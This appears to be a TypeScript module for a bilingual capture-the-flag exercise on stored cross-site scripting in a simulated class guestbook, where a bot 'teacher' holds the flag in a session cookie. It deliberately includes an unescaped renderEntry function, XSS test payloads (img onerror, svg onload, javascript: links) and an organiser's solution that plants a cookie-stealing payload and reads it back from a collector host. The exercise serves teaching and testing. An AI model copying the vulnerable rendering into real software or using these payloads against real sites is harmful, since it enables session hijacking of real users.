import { createSite, esc, html, page } from '../http.ts';
import { activeContent } from '../fixcheck.ts';
import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';
import { COLLECTOR, STEAL, collectorHost, cookieFrom, record } from './xss-common.ts';

const HOST = 'luubut.lop12a.test';

export const VULNERABLE = `// Trả về HTML của một lời lưu bút. / Returns the HTML of one guestbook entry.
function renderEntry(entry) {
  return '<li><b>' + entry.name + '</b>: ' + entry.message + '</li>';
}`;

const REFERENCE = `function renderEntry(entry) {
  const esc = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
  return '<li><b>' + esc(entry.name) + '</b>: ' + esc(entry.message) + '</li>';
}`;

const render = (e: { name: string; message: string }) => `<li><b>${e.name}</b>: ${e.message}</li>`;

const safe = (name: string, message: string, vi: string, en: string): FixCase => ({
  kind: 'exploit', label: { vi, en }, args: [{ name, message }],
  judge: (o, env) => o.ok && typeof o.value === 'string' && activeContent(env.parseHtml(`<ul>${o.value}</ul>`)).length === 0,
});
const shows = (name: string, message: string, vi: string, en: string): FixCase => ({
  kind: 'normal', label: { vi, en }, args: [{ name, message }],
  judge: (o, env) => {
    if (!o.ok || typeof o.value !== 'string') return false;
    const li = env.parseHtml(`<ul>${o.value}</ul>`).querySelector('li');
    return !!li && li.textContent === `${name}: ${message}` && li.querySelector('b')?.textContent === name;
  },
});

export const xssStored: ChallengeModule = {
  id: 'xss-stored',
  start: `http://${HOST}/`,
  createSite: ({ flag, victim }) => {
    const entries = [{ name: 'Minh', message: 'Chúc cả lớp thi tốt! 🎓' }, { name: 'Cô Hạnh', message: 'Cô tự hào về các em.' }];
    const log: string[] = [];
    const book = () => page('Lưu bút lớp 12A', `<h1>Lưu bút lớp 12A</h1><ul>${entries.map(render).join('')}</ul>`);
    return createSite([
      { host: HOST, routes: {
        'GET /': () => html(book().replace('</ul>', `</ul><form method="post" action="/viet"><label>Tên <input name="ten"></label><label>Lời lưu bút <textarea name="loi"></textarea></label><button>Viết</button></form><form method="post" action="/nho-co-duyet"><button>Nhờ cô chủ nhiệm duyệt lưu bút</button></form>`)),
        'POST /viet': (req) => { entries.push({ name: req.form.ten ?? '', message: req.form.loi ?? '' }); return { ...html(''), status: 303, location: '/' }; },
        'POST /nho-co-duyet': async () => {
          // The form teacher opens the guestbook, logged in (her session cookie holds the flag).
          const n = record(log, await victim(book(), `phien=${flag}`));
          return html(page('Đã gửi', `<p>Cô Hạnh đã xem lưu bút.${n ? ` Máy của em nhận được ${n} yêu cầu: xem http://${COLLECTOR}/` : ''}</p>`));
        },
      } },
      collectorHost(log),
    ]);
  },
  fix: {
    fn: 'renderEntry', language: 'javascript', vulnerable: VULNERABLE,
    cases: [
      safe('A', STEAL, 'Chặn <script>', 'Block <script>'),
      safe('A', '<img src=x onerror="alert(1)">', 'Chặn <img onerror>', 'Block <img onerror>'),
      safe('<svg onload=alert(1)>', 'hi', 'Chặn mã trong ô tên', 'Block code in the name field'),
      safe('A', '<a href="javascript:alert(1)">bấm</a>', 'Chặn link javascript:', 'Block a javascript: link'),
      shows('Lan', 'Nhớ lớp <3 & “12A” mãi!', 'Lời có dấu < & " vẫn hiện đúng', 'A message with < & " still shows as typed'),
      shows('Minh', 'Chúc cả lớp thi tốt!', 'Lời thường hiện đúng', 'An ordinary message shows'),
    ],
  },
};

/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
export const xssStoredSolution: ChallengeSolution = {
  async solve(c) {
    await c.post(`http://${HOST}/viet`, { ten: 'Bạn bí ẩn', loi: STEAL });
    const r = await c.post(`http://${HOST}/nho-co-duyet`, {});
    const log = await c.get(`http://${COLLECTOR}/`);
    return seen(r, log) + '\n' + cookieFrom(log.body);
  },
  async naive(c) {
    // Shows an alert box: proves the bug on their own screen, but steals nothing from the teacher.
    await c.post(`http://${HOST}/viet`, { ten: 'Test', loi: '<script>alert(1)</script>' });
    const r = await c.post(`http://${HOST}/nho-co-duyet`, {});
    return seen(r, await c.get(`http://${COLLECTOR}/`));
  },
  reference: REFERENCE,
};
